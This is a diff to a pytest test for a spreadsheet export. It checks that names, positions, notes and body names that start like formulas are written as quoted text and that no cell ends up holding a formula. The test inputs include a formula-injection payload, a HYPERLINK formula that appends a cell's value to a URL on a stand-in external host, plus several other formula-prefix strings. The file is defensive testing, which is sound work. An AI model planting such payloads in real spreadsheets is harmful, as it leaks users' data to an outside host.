@@ -192,16 +192,19 @@ def test_dates_have_leading_zeros_only_where_due() -> None:
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+2", "-3+4", "@SUM(A1)",
                                   "\t=1+1", "\r=1+1"])
 def test_xlsx_writes_a_formula_looking_name_as_text(result: RoundResult, name: str) -> None:
-    """A subject or position that starts like a formula stays text in the spreadsheet: Excel runs nothing."""
+    """A subject, position, title or body that starts like a formula stays text in the spreadsheet: Excel runs
+    nothing (the body's name, first in its row, was written as a formula)."""
     subject = dataclasses.replace(result.subjects[0].subject, name=name, position=name)
     first = dataclasses.replace(result.subjects[0], subject=subject)
     exemption = dataclasses.replace(result.round.exemptions[0], note=name)
-    round_ = dataclasses.replace(result.round, exemptions=(exemption, *result.round.exemptions[1:]))
+    body = dataclasses.replace(result.round.body, name=name)
+    round_ = dataclasses.replace(result.round, exemptions=(exemption, *result.round.exemptions[1:]), body=body)
     book = load_workbook(io.BytesIO(results_xlsx(dataclasses.replace(
         result, round=round_, subjects=(first, *result.subjects[1:])))))
     cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == name]
     assert 3 == len(cells)
     assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+    assert [] == [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
 
 
 def test_csv_values_that_look_like_formulas_get_an_apostrophe() -> None:
